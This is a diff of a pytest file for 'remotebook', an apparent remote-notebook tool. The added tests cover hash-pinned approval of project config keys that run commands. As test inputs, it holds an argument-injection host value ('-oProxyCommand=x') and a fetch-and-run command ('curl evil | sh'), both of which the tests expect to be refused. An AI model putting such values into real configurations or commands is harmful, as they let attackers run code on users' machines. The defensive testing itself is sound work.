@@ -4,14 +4,20 @@ from pathlib import Path
 
 import pytest
 
-from remotebook import config
-from remotebook.errors import ConfigError
+from remotebook import config, trust
+from remotebook.errors import ConfigError, UntrustedError
 
 
 def write(folder: Path, text: str) -> Path:
     path = folder / "remotebook.toml"
     path.write_text(text)
     return path
+
+
+def pins(path: Path) -> dict[str, str]:
+    """The approval `remotebook trust` would record for this file as it is now."""
+    checked = trust.read_owned(path)
+    return {str(checked.real): checked.sha256}
 
 
 def test_project_file_found_upward_and_wins_over_user_file(tmp_path: Path) -> None:
@@ -71,18 +77,79 @@ def test_invalid_config_names_file_and_key(tmp_path: Path, text: str, expected: 
 
 
 def test_setup_string_or_list_and_host_not_an_option(tmp_path: Path) -> None:
-    write(tmp_path, '[profiles.a]\nhost = "h"\nsetup = "module load cuda"\n[profiles.b]\nhost = "-oProxyCommand=x"\n')
-    cfg = config.load(tmp_path, tmp_path / "x")
+    path = write(
+        tmp_path, '[profiles.a]\nhost = "h"\nsetup = "module load cuda"\n[profiles.b]\nhost = "-oProxyCommand=x"\n'
+    )
+    cfg = config.load(tmp_path, tmp_path / "x", pins(path))
     assert config.resolve(cfg, "a").setup == ("module load cuda",)
     with pytest.raises(ConfigError, match="cannot start with '-'"):
         config.resolve(cfg, "b")
 
 
 def test_ssh_config_override_beats_profile(tmp_path: Path) -> None:
-    write(tmp_path, '[profiles.a]\nhost = "h"\nssh_config = "/etc/one"\n')
-    cfg = config.load(tmp_path, tmp_path / "x")
+    path = write(tmp_path, '[profiles.a]\nhost = "h"\nssh_config = "/etc/one"\n')
+    cfg = config.load(tmp_path, tmp_path / "x", pins(path))
     assert config.resolve(cfg, "a").ssh_config == "/etc/one"
     assert config.resolve(cfg, "a", "/etc/two").ssh_config == "/etc/two"
+    unapproved = config.load(tmp_path, tmp_path / "x")
+    with pytest.raises(UntrustedError, match="sets ssh_config"):
+        config.resolve(unapproved, "a")
+    assert config.resolve(unapproved, "a", "/etc/two").ssh_config == "/etc/two"  # --ssh-config is the user's own
+
+
+@pytest.mark.parametrize(
+    ("table", "approved", "refused"),
+    [
+        ('setup = ["module load x"]', False, "setup"),
+        ('ssh_config = "x"\nsetup = "true"', False, "setup, ssh_config"),
+        ('jupyter = "/j"\nvenv = "~/v"\nconda_env = "c"\njupyter_args = ["--x"]', False, "conda_env, jupyter,"),
+        ('setup = ["module load x"]', True, ""),
+        ('remote_dir = "~/r"\napp = "notebook"\nlocal_port = 9\ntransport = "tcp"\nexclude = ["a"]', False, ""),
+        ('start_timeout = 5\nidle_timeout = "1h"\npull = ["results/"]\nsetup = []\nvenv = ""', False, ""),
+    ],
+)
+def test_command_keys_need_the_files_approval(tmp_path: Path, table: str, approved: bool, refused: str) -> None:
+    path = write(tmp_path, f'[profiles.a]\nhost = "h"\n{table}\n')
+    cfg = config.load(tmp_path, tmp_path / "x", pins(path) if approved else {})
+    if not refused:
+        assert config.resolve(cfg, "a").host == "h"
+        return
+    with pytest.raises(UntrustedError) as info:
+        config.resolve(cfg, "a")
+    assert str(info.value).startswith(f"{path} sets {refused}")
+    assert str(info.value).endswith("which run commands; it is not approved")
+    assert info.value.hint == "review it, then run `remotebook trust`" and info.value.exit_code == 13
+
+
+def test_only_the_selected_profiles_keys_matter_and_a_change_asks_again(tmp_path: Path) -> None:
+    path = write(tmp_path, '[profiles.data]\nhost = "h"\n[profiles.cmd]\nhost = "h"\nsetup = "true"\n')
+    approved = pins(path)
+    assert config.resolve(config.load(tmp_path, tmp_path / "x"), "data").host == "h"
+    assert config.resolve(config.load(tmp_path, tmp_path / "x"), "some-host").host == "some-host"
+    assert config.resolve(config.load(tmp_path, tmp_path / "x", approved), "cmd").setup == ("true",)
+    path.write_text(path.read_text().replace('"true"', '"curl evil | sh"'))
+    with pytest.raises(UntrustedError, match="changed since you approved it") as info:
+        config.resolve(config.load(tmp_path, tmp_path / "x", approved), "cmd")
+    assert info.value.hint == "review the change, then run `remotebook trust`"
+
+
+def test_the_user_file_is_trusted_but_must_be_yours(tmp_path: Path) -> None:
+    user = tmp_path / "config.toml"
+    user.write_text('[profiles.u]\nhost = "h"\nssh_config = "/etc/mine"\nsetup = "module load x"\n')
+    project = tmp_path / "proj"
+    project.mkdir()
+    assert config.resolve(config.load(project, user), "u").ssh_config == "/etc/mine"
+    (project / "remotebook.toml").symlink_to(user)  # the user's own file under the project's name
+    assert config.resolve(config.load(project, user), "u").setup == ("module load x",)
+    user.chmod(0o664)
+    with pytest.raises(UntrustedError, match=r"config\.toml is writable by group; remotebook does not read it"):
+        config.load(project, user)
+
+
+def test_a_file_that_is_not_utf8_is_a_config_error(tmp_path: Path) -> None:
+    (tmp_path / "remotebook.toml").write_bytes(b'[profiles.a]\nhost = "\xff"\n')
+    with pytest.raises(ConfigError, match="not valid TOML"):
+        config.load(tmp_path, tmp_path / "x")
 
 
 @pytest.mark.parametrize(
